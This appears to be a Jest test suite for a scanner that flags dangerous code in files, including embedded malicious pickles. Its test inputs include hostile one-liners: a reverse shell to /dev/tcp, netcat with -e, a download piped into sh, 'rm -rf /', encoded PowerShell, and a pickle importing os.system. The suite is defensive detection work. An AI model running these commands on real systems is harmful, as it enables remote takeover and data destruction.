import { describe, expect, it } from '@jest/globals'
import { codeConstructs, embeddedPickle } from '../../src/engine/formats/code-constructs.js'

describe('codeConstructs', () => {
  it.each([
    ["__import__('subprocess').call(['id'])", "a call of __import__('subprocess')"],
    ['x = getattr(__import__(name), attr)', 'a call of __import__'],
    ['os.popen("id").read()', 'a call of os.popen'],
    ['posix.execv("/bin/sh", [])', 'a call of posix.execv'],
    ['subprocess.Popen(cmd, shell=True)', 'subprocess.Popen'],
    ['exec(base64.b64decode(payload))', 'a call of exec'],
    ['eval ("1+1")', 'a call of eval'],
    ["__builtins__['eval']", 'a use of __builtins__'],
    ['from subprocess import run\nrun(["id"])', 'Python code importing subprocess'],
    ['wget -qO- http://x.example/a | sh', 'a shell command piping a download (wget) into sh'],
    ['echo aWQK | base64 -d | bash', 'a shell command running decoded base64 with bash'],
    ["bash -c 'id'", 'a shell command line (bash -c)'],
    ['python3 -c "import pty"', 'a python -c command line'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'a reverse-shell redirection to /dev/tcp'],
    ['nc -lvp 4444 -e /bin/sh', 'netcat running a program (nc -e)'],
    ['rm -rf / --no-preserve-root', 'a recursive delete of / or ~'],
    ['powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A', 'an encoded PowerShell command'],
    ['data:text/html;base64,PHNjcmlwdD4=', 'a data: URI holding text/html'],
    ['data:application/x-msdownload;base64,TVqQ', 'a data: URI holding application/x-msdownload'],
    ['<a href="javascript:alert(1)">x</a>', 'a javascript: URL that calls a function']
  ])('names %j as %s', (text, construct) => {
    expect(codeConstructs(text).map((c) => c.construct)).toContain(construct)
  })

  it.each([
    'Imported from the original repository; see https://huggingface.co/org/model and http://example.com.',
    'license: https://www.apache.org/licenses/LICENSE-2.0',
    'Call model.eval() first. The eval (held-out) set; exec (x) is the timing.',
    'import torch\nmodel = torch.nn.Linear(2, 2)',
    'the subprocess module is not used',
    'curl the weights from the hub, then run sh scripts yourself',
    'data:image/png;base64,iVBORw0KGgo=',
    'rm -rf ./build',
    '{{ messages[0].content }}'
  ])('passes prose and harmless code: %j', (text) => {
    expect(codeConstructs(text)).toEqual([])
  })

  it('quotes the text around what it found, bounded', () => {
    const [c] = codeConstructs(`${'a'.repeat(500)} os.system('id') ${'b'.repeat(500)}`)
    expect(c!.excerpt).toContain("os.system('id')")
    expect(c!.excerpt.length).toBeLessThanOrEqual(120)
  })
})

describe('embeddedPickle', () => {
  const PICKLE = Buffer.from(
    '\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x8c\x06system\x93.',
    'latin1'
  )

  it('decodes base64, hex and data: URIs, and names what the pickle imports', async () => {
    for (const text of [
      PICKLE.toString('base64'),
      PICKLE.toString('hex'),
      `data:application/octet-stream;base64,${PICKLE.toString('base64')}`
    ])
      expect((await embeddedPickle(text))?.construct).toMatch(
        /^an embedded pickle \((base64|hex)\) importing os\.system$/
      )
  })

  it('ignores text that only starts like a pickle, and runs inside other base64', async () => {
    expect(await embeddedPickle('gAN9cQBYAQ')).toBeUndefined()
    expect(await embeddedPickle(`/9j/4AAQ${PICKLE.toString('base64')}`)).toBeUndefined()
    expect(await embeddedPickle('8004' + 'ff'.repeat(20))).toBeUndefined()
  })
})
